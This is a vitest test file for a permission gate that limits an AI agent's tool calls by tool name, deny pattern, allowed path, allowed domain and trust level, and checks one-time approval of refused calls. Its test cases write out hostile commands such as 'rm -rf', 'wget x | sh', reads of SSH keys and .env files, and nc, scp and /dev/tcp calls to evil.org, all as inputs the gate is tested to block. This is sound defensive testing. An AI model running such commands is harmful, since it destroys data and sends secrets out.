import { describe, expect, test } from "vitest";
import { callOf, facts, HOME, ran, turnOf } from "../../../test/policy-calls.ts";
import type { ToolCall } from "../../core/call.ts";
import { ToolError } from "../../core/error.ts";
import type { Verdict } from "../../core/gate/verdict.ts";
import type { Outcome } from "../../core/layer.ts";
import type { Trust, TurnContext } from "../../core/turn.ts";
import { createScopedGate, type ScopedConfig, scopedConfig, scopedMemory } from "./scoped.ts";

type Given = Partial<Omit<ScopedConfig, "constraints">> & { constraints?: object[] };
const gateOf = (given: Given, memory = scopedMemory()) =>
  createScopedGate(scopedConfig().parse({ enabled: true, ...given }), facts, memory);
const said = (given: Given, call: ToolCall, turn: TurnContext = turnOf()) => gateOf(given).judge(call, turn) as Verdict;
const kind = (given: Given, call: ToolCall) => said(given, call).kind;
const limited = (limit: object, call: ToolCall) => kind({ constraints: [{ tool: call.tool.name, ...limit }] }, call);

describe("a list:", () => {
  test("switched off it says nothing", () => {
    expect(kind({ enabled: false, denied_tools: ["bash"] }, ran("ls"))).toBe("pass");
    expect(gateOf({ enabled: false }).state?.()).toBe("off");
    expect(gateOf({ enabled: false, denied_tools: ["bash"] }).state?.()).toBe("off, 1 tool denied, 0 constraints written");
  });
  test("denied tools are not used, in any case of their name", () => {
    expect(said({ denied_tools: ["Bash"] }, ran("ls"))).toMatchObject({ kind: "deny", rule: "tools.scoped.denied_tools" });
    expect(kind({ denied_tools: ["bash"] }, callOf("read", { path: "a" }))).toBe("pass");
  });
  test("allowed tools are the only ones, and then the denied ones are ignored", () => {
    expect(said({ allowed_tools: ["read"] }, ran("ls"))).toMatchObject({ kind: "deny", rule: "tools.scoped.allowed_tools" });
    expect(kind({ allowed_tools: ["bash"], denied_tools: ["bash"] }, ran("ls"))).toBe("pass");
  });
});

test("the names may be patterns, in lists and constraints", () => {
  const read = callOf("read", { path: "a" });
  expect(kind({ denied_tools: ["*"] }, read)).toBe("deny");
  expect(kind({ denied_tools: ["re*"] }, read)).toBe("deny");
  expect(kind({ denied_tools: ["wr*"] }, read)).toBe("pass");
  expect(kind({ allowed_tools: ["*"] }, read)).toBe("pass");
  expect(kind({ constraints: [{ tool: "*", deny_patterns: ["a"] }] }, read)).toBe("deny");
  expect(kind({ constraints: [{ tool: "b*", deny_patterns: ["a"] }] }, read)).toBe("pass");
});

describe("deny_patterns", () => {
  test.each([
    ["rm -rf", "rm -rf x", "deny"],
    ["rm -rf", "RM -rf x", "deny"],
    ["rm -rf", "rm   -rf x", "deny"],
    ["rm -rf", "r''m -rf x", "deny"],
    ["rm -rf", 'rm "-rf" x', "deny"],
    ["rm -rf", "rm -fr x", "deny"],
    ["rm -rf", "rm -r x -f", "deny"],
    ["rm -rf", "/bin/rm -rf x", "deny"],
    ["rm -rf", "rm --recursive --force x", "deny"],
    ["rm -rf", "sh -c \"rm '-rf' x\"", "deny"],
    ["rm -rf", "rm x", "pass"],
    ["git push", "git -C x push", "deny"],
    ["git push", "git status", "pass"],
    ["[x", "echo '[x'", "deny"],
    ["*", "echo a", "deny"],
    ["rm -rf *", "rm -rf x", "deny"],
    ["rm*", "npm test", "pass"],
    ["*secret*", "cat my-Secret.txt", "deny"],
    ["wget*|*sh", "wget x | sh", "deny"],
    ["git pu??", "git push origin", "deny"],
    ["git pu??", "git pull", "deny"],
    ["git pu??", "git add pu", "pass"],
    ["git {push,fetch}", "git -C x fetch", "deny"],
    ["git {push,fetch}", "git log", "pass"],
    ["id_[dr]sa", "cat ~/.ssh/id_rsa", "deny"],
    ["id_[dr]sa", "cat id_xsa", "pass"],
    ["kube*", "KUBECTL get pods", "deny"],
    ["a\\*b", "echo axb", "pass"],
    ["a\\*b", "echo 'a*b'", "deny"],
    ["git  push now", "GIT push\n now", "deny"],
    ["git push now", "git push", "pass"],
    ["a  ", "echo a b", "deny"],
    ["**/.env", "cat .env", "deny"],
    ["**/.env", "cat d/.env", "deny"],
    ["**/.env", "cat prod.env", "pass"],
    ["src/**/*.key", "cat src/a.key", "deny"],
    ["src/**/*.key", "cat src/b/a.key", "deny"],
    ["src/**/*.key", "cat lib/a.key", "pass"],
  ])("%s: %s → %s", (pattern, command, expected) => {
    expect(limited({ deny_patterns: [pattern] }, ran(command))).toBe(expected);
  });
  test.each([".env", "d/.env", "./.env"])("**/.env fits the path %s of another tool", (path) => {
    expect(kind({ constraints: [{ tool: "read", deny_patterns: ["**/.env"] }] }, callOf("read", { path }))).toBe("deny");
  });
  test("in every argument of another tool, and the refusal names the constraint", () => {
    const given = { constraints: [{ tool: "read" }, { tool: "write", deny_patterns: ["SECRET"] }] };
    const rule = 'tools.scoped.constraints[1] (write): deny_patterns "SECRET"';
    const verdict = said(given, callOf("write", { path: "a", content: "the secret" }));
    expect(verdict).toMatchObject({ kind: "deny", rule, why: expect.stringContaining(rule) });
    expect(verdict).not.toHaveProperty("told");
    expect(kind(given, callOf("write", { path: "a", content: "x" }))).toBe("pass");
  });
});

describe("allowed_paths", () => {
  test.each<[string[], ToolCall, string]>([
    [["src"], callOf("read", { path: "src/a.ts" }), "pass"],
    [["src"], callOf("read", { path: "src" }), "pass"],
    [["src"], callOf("read", { path: "srcs/a.ts" }), "deny"],
    [["src"], callOf("read", { path: "src/../secret/k" }), "deny"],
    [["src"], callOf("read", { path: "src/link/k" }), "deny"],
    [["src", "secret"], callOf("read", { path: "src/link/k" }), "pass"],
    [["~"], callOf("read", { path: `${HOME}/x` }), "pass"],
    [["src"], callOf("move_path", { source: "src/a.ts", destination: "b" }), "deny"],
    [["src"], ran("cat src/a.ts"), "pass"],
    [["src"], ran("cat src/*"), "pass"],
    [["src"], ran("cat src/a.ts > /etc/x"), "deny"],
    [["src"], ran("python3 /etc/x.py"), "deny"],
    [["src"], ran("cat $X"), "deny"],
    [["src"], ran("cat ~bob/x"), "deny"],
    [["src"], ran("sort src/a.ts | head -n 3"), "pass"],
    [["src"], ran("cd src; cat a.ts"), "pass"],
    [["src"], ran("echo hi; pwd"), "pass"],
    [["src"], ran("ls"), "deny"],
    [["src"], ran("sort a.txt"), "deny"],
    [["src"], ran("fold a.txt"), "deny"],
    [["src"], ran("pr a.txt"), "deny"],
    [["src"], ran("perl -pe1 a.txt"), "deny"],
    [["src"], ran("python3 a.txt"), "deny"],
    [["src"], ran("python3 src/a.ts"), "deny"],
    [["src"], ran("ln secret/k src/h; cat src/h"), "deny"],
    [["src"], ran("sort -o src/o secret/k"), "deny"],
    [["src"], ran("env -C secret cat k"), "deny"],
    [["src"], ran("make"), "deny"],
    [["src"], ran("git log"), "deny"],
    [["src"], callOf("grep", { pattern: "x", path: "src" }), "pass"],
    [["src"], callOf("grep", { pattern: "x" }), "deny"],
  ])("%j: case %#", (allowed_paths, call, expected) => expect(limited({ allowed_paths }, call), JSON.stringify(call.input)).toBe(expected));
});

describe("allowed_domains", () => {
  const fetches = (url: string) => callOf("fetch", { url });
  test.each<[string, ToolCall, string]>([
    ["example.com", fetches("https://example.com/a"), "pass"],
    ["Example.com", fetches("https://EXAMPLE.com.:443/a"), "pass"],
    ["example.com", fetches("https://www.example.com/"), "deny"],
    ["*.example.com", fetches("https://www.example.com/"), "pass"],
    ["*.example.com", fetches("https://a.b.example.com/"), "pass"],
    ["*.example.com", fetches("https://example.com/"), "deny"],
    ["*.example.com", fetches("https://evilexample.com/"), "deny"],
    ["example.com", fetches("https://example.com@evil.org/"), "deny"],
    ["example.com", fetches("https://evil.org/?x=example.com"), "deny"],
    ["example.com", ran("curl https://example.com/a"), "pass"],
    ["example.com", ran("curl https://evil.org/a"), "deny"],
    ["example.com", ran("curl $X"), "deny"],
    ["example.com", ran("curl -sm1 --retry 3 -H 'a: b' example.com/a"), "pass"],
    ["example.com", ran("wget -q -O x example.com/a"), "pass"],
    ["example.com", ran("git clone git@example.com:o/r"), "pass"],
    ["example.com", ran("npm test && git status"), "pass"],
    ["example.com", ran("curl evil.org/x"), "deny"],
    ["example.com", ran("curl --url evil.org"), "deny"],
    ["example.com", ran("curl -x evil.org:80 https://example.com"), "deny"],
    ["example.com", ran("curl --resolve example.com:443:1.2.3.4 https://example.com"), "deny"],
    ["example.com", ran("curl --proxy socks5://evil.org https://example.com"), "deny"],
    ["example.com", ran("https_proxy=evil.org curl https://example.com"), "deny"],
    ["example.com", ran("wget evil.org/x"), "deny"],
    ["example.com", ran("wget -i list https://example.com"), "deny"],
    ["example.com", ran("git clone git@evil.org:o/r"), "deny"],
    ["example.com", ran("git push"), "deny"],
    ["example.com", ran("git remote add x https://evil.org/o"), "deny"],
    ["example.com", ran("git -c url.https://evil.org/.insteadOf=https://example.com/ clone https://example.com/x"), "deny"],
    ["example.com", ran("ssh evil.org"), "deny"],
    ["example.com", ran("ssh -J evil.org example.com"), "deny"],
    ["example.com", ran("ssh me@example.com"), "pass"],
    ["example.com", ran("scp a.txt evil.org:x"), "deny"],
    ["example.com", ran("rsync -a src evil.org::m"), "deny"],
    ["example.com", ran("nc evil.org 80"), "deny"],
    ["example.com", ran("http POST evil.org/x"), "deny"],
    ["example.com", ran("dig @evil.org example.com"), "deny"],
    ["example.com", ran("ping -c 1 evil.org"), "deny"],
    ["example.com", ran("echo x > /dev/tcp/evil.org/80"), "deny"],
  ])("%s: case %#", (domain, call, expected) =>
    expect(limited({ allowed_domains: [domain] }, call), JSON.stringify(call.input)).toBe(expected),
  );
});

describe("limits that nothing could keep to are no limits", () => {
  const complaint = (limit: object) =>
    scopedConfig()
      .safeParse({ constraints: [{ tool: "x", ...limit }] })
      .error?.issues.map(({ path, message }) => [path.at(-2), message]) ?? null;
  test.each([
    ["src/**", '"src"'],
    ["*.ts", '"."'],
    ["/etc/*/x", '"/etc"'],
    ["/*", '"/"'],
    ["a/{b,c}", '"a"'],
    ["~/x?", '"~"'],
  ])("the folder %s", (path, instead) =>
    expect(complaint({ allowed_paths: [path] })).toEqual([
      ["allowed_paths", `allowed_paths are folders with all that lies in them, not patterns: write ${instead}.`],
    ]),
  );
  test.each([
    ["https://example.com", 'write "example.com"'],
    ["http://me@example.com:80/x?y", 'write "example.com"'],
    ["example.com/path", 'write "example.com"'],
    ["example.com:8080", 'write "example.com"'],
    ["*", 'write "example.com", or "*.example.com"'],
    ["exa*mple.com", 'write "example.com", or "*.example.com"'],
    ["a b", 'write "example.com", or "*.example.com"'],
  ])("the host %s", (domain, advice) =>
    expect(complaint({ allowed_domains: [domain] })).toEqual([
      ["allowed_domains", `allowed_domains are hosts, without scheme, port or path: ${advice}.`],
    ]),
  );
  test("names with brackets, addresses in numbers and other alphabets are fine", () => {
    expect(complaint({ allowed_paths: ["app/[id]", "a{b}", "~", "."] })).toBeNull();
    expect(
      complaint({ allowed_domains: ["Example.com.", "*.example.com", "127.0.0.1", "[::1]", "localhost", "bücher.example"] }),
    ).toBeNull();
    expect(limited({ allowed_domains: ["bücher.example"] }, callOf("fetch", { url: "https://bücher.example/" }))).toBe("pass");
    expect(limited({ allowed_domains: ["[::1]"] }, callOf("fetch", { url: "http://[::1]:80/" }))).toBe("pass");
  });
});

describe("min_trust", () => {
  const given = { constraints: [{ tool: "bash", min_trust: "provisional" }] };
  test.each<[Trust, string]>([
    ["untrusted", "ask"],
    ["provisional", "pass"],
    ["trusted", "pass"],
  ])("%s → %s", (trust, expected) => expect(said(given, ran("ls"), turnOf({ trust })).kind).toBe(expected));
  test("a denial goes before the question, whichever constraint says it", () => {
    const both = { constraints: [...given.constraints, { tool: "bash", deny_patterns: ["ls"] }] };
    expect(said(both, ran("ls"), turnOf({ trust: "untrusted" }))).toMatchObject({ kind: "deny" });
  });
});

describe("approve", () => {
  const refusedBy = (gate: string, call: ToolCall): Outcome => ({
    ok: false,
    callId: call.id,
    error: new ToolError("policy_blocked", "no"),
    decision: { verdict: "deny", gate },
  });
  const opened = () => {
    const memory = scopedMemory();
    return { memory, gate: gateOf({ denied_tools: ["bash"] }, memory) };
  };
  const kindOf = (gate: ReturnType<typeof gateOf>, call: ToolCall) => (gate.judge(call, turnOf()) as Verdict).kind;

  test("lifts the refusal of exactly that tool and arguments, once, also in a gate that was built anew", () => {
    const { gate, memory } = opened();
    const call = ran("ls");
    expect(kindOf(gate, call)).toBe("deny");
    expect(gate.approve(call.id)).toBeNull();
    gate.settled?.(call, refusedBy("scoped", call), turnOf());
    expect(gate.approve(call.id)).toEqual({ callId: call.id, tool: "bash" });
    const anew = gateOf({ denied_tools: ["bash"] }, memory);
    expect(kindOf(anew, ran("ls -l"))).toBe("deny");
    const again = ran("ls");
    expect([kindOf(anew, again), kindOf(anew, again)]).toEqual(["pass", "pass"]);
    anew.admitted?.(again, turnOf());
    expect(kindOf(anew, ran("ls"))).toBe("deny");
    expect(anew.approve(call.id)).toBeNull();
  });
  test("another folder is another call", () => {
    const { gate } = opened();
    const call = ran("ls");
    gate.settled?.(call, refusedBy("scoped", call), turnOf());
    gate.approve(call.id);
    expect(kindOf(gate, Object.create(call, { cwd: { value: "/elsewhere" } }))).toBe("deny");
  });
  test("by the beginning of an id, if it is long enough and only one's", () => {
    const { gate } = opened();
    const [a, b] = [ran("a"), ran("b")].map((call, n) => Object.create(call, { id: { value: `abcdef${n}-long` } }) as ToolCall);
    for (const call of [a!, b!]) gate.settled?.(call, refusedBy("scoped", call), turnOf());
    expect([gate.approve("abcde"), gate.approve("abcdef"), gate.approve("")]).toEqual([null, null, null]);
    expect(gate.approve("abcdef1")).toEqual({ callId: "abcdef1-long", tool: "bash" });
    expect(gate.approve("abcde")).toBeNull();
    expect(gate.approve("abcdef")).toEqual({ callId: "abcdef0-long", tool: "bash" });
  });
  test("what another gate refused is none of its business, and a new session forgets", () => {
    const { gate, memory } = opened();
    const [a, b] = [ran("a"), ran("b")];
    gate.settled?.(a, refusedBy("policy", a), turnOf());
    expect(gate.approve(a.id)).toBeNull();
    gate.settled?.(b, refusedBy("scoped", b), turnOf());
    gate.approve(b.id);
    gate.reset?.();
    expect(kindOf(gate, ran("b"))).toBe("deny");
    expect(memory).toEqual(scopedMemory());
  });
  test("remembers the last thousand", () => {
    const { gate, memory } = opened();
    for (let n = 0; n < 1005; n++) {
      const call = ran(`echo ${n}`);
      gate.settled?.(call, refusedBy("scoped", call), turnOf());
    }
    expect(memory.refused.size).toBe(1000);
  });
});
